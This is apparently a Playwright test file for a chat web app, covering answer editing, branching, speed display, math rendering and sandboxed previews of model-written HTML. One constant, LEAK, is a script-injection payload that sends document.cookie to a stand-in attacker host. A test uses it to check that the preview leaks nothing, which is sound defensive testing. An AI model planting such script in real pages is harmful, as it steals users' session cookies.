"""What can be done with a message, and what an answer shows of itself."""

from __future__ import annotations

import asyncio
from dataclasses import replace

from companion import ask
from scripted_backend import ScriptedBackend, serve, text

MATH = (
    "It costs $5 and then $10. Inline $x^2 + y_1$ and \\(a \\le b\\).\n\n"
    "$$\\frac{1}{2}$$\n\n\\[\\sum_i i\\]\n\n`$code$` and $\\notacommand$\n\n"
)
PAGE = '```html\n<h1 id="t">Hi</h1><script>t.textContent = "ran " + origin</script>\n```\n'
LEAK = "<script>fetch('https://attacker.invalid/'+document.cookie)</script>"


async def done(page, count=1):
    await page.locator(".figures").nth(count - 1).wait_for()


async def test_answers_are_edited_branched_and_asked_of_another_model(page, admin):
    admin.daemon.models.append(replace(admin.daemon.models[0], model="other"))
    backend = ScriptedBackend(default=text("first answer"))
    backend.models.append(replace(backend.models[0], model="other"))
    async with serve(backend, admin=admin) as server:
        await page.goto(server.url)
        await ask(page, "question")
        await done(page)
        assert await page.locator(".author").inner_text() == admin.daemon.models[0].model
        await page.get_by_role("button", name="Change the answer").click()
        await page.get_by_label("Edited answer").fill("better answer")
        await page.get_by_role("button", name="Save", exact=True).click()
        await page.get_by_text("2/2").wait_for()
        await page.get_by_text("edited", exact=False).last.wait_for()
        await ask(page, "go on")
        await done(page, 2)
        said = [message.parts[0].text for message in backend.requests[-1].chat.messages]
        assert said == ["question", "better answer", "go on"]

        backend.default = text("of the other")
        await page.get_by_role("button", name="Ask another model").last.click()
        await page.get_by_role("dialog").get_by_role("button", name="other").click()
        await page.get_by_text("of the other").wait_for()
        assert await page.locator(".author").last.inner_text() == "other"

        await page.get_by_role("button", name="Branch into a new chat").nth(1).click()
        await page.locator(".user", has_text="go on").wait_for(state="detached")
        await page.get_by_text("better answer").wait_for()
        assert await page.locator(".chats li").count() == 2


async def test_an_answer_says_how_fast_it_comes_and_how_long_it_thought(page, admin):
    gate = asyncio.get_running_loop().create_future()
    script = replace(text(*["word "] * 40), before=lambda n: gate if n == 39 else None)
    async with serve(ScriptedBackend(default=script), admin=admin) as server:
        await page.goto(server.url)
        await page.evaluate(
            "const now = performance.now.bind(performance); let late = 0;"
            "performance.now = () => now() + (late += 20)"
        )
        await ask(page, "go")
        await page.locator("footer.live").get_by_text("tokens/s").wait_for()
        await page.locator("footer.live").get_by_text("39 tokens").wait_for()
        gate.set_result(None)
        await done(page)
        assert await page.locator("footer.live").count() == 0


async def test_mathematics_and_code_are_drawn_and_prices_stay_prices(page, admin):
    code = "```python\ndef f():\n    return 1\n```\n\n```klingon\nQapla'\n```\n"
    loaded = []
    page.on("request", lambda request: loaded.append(request.url))
    async with serve(ScriptedBackend(default=text("hello")), admin=admin) as server:
        await page.goto(server.url)
        await ask(page, "hello")
        await done(page)
        assert not [url for url in loaded if "temml" in url or "highlight" in url]
        server.backend.default = text(MATH + code)
        await ask(page, "go")
        await done(page, 2)
        answer = page.locator(".assistant .text").last
        await answer.locator("math").nth(3).wait_for()
        assert await answer.locator("math").count() == 4
        await answer.locator(".hljs-keyword").first.wait_for()
        shown = await answer.inner_text()
        assert "It costs $5 and then $10." in shown
        assert "$code$" in shown
        assert "\\notacommand" in shown
        assert "Qapla'" in shown
        assert await answer.locator("math[display=block]").count() == 2


async def test_a_page_that_a_model_wrote_is_shown_without_any_power(page, admin):
    backend = ScriptedBackend(default=text(PAGE.replace("</script>", "</script>" + LEAK, 1)))
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    async with serve(backend, admin=admin) as server:
        await page.goto(server.url)
        await ask(page, "go")
        await done(page)
        await page.get_by_role("button", name="Preview").click()
        frame = page.frame_locator("iframe.preview")
        await frame.get_by_text("ran null").wait_for()
        assert await page.locator("iframe.preview").get_attribute("sandbox") == "allow-scripts"
        await page.get_by_role("button", name="Code", exact=True).click()
        await page.get_by_text("t.textContent").wait_for()
        assert all(url.startswith((server.url, "data:")) for url in asked)
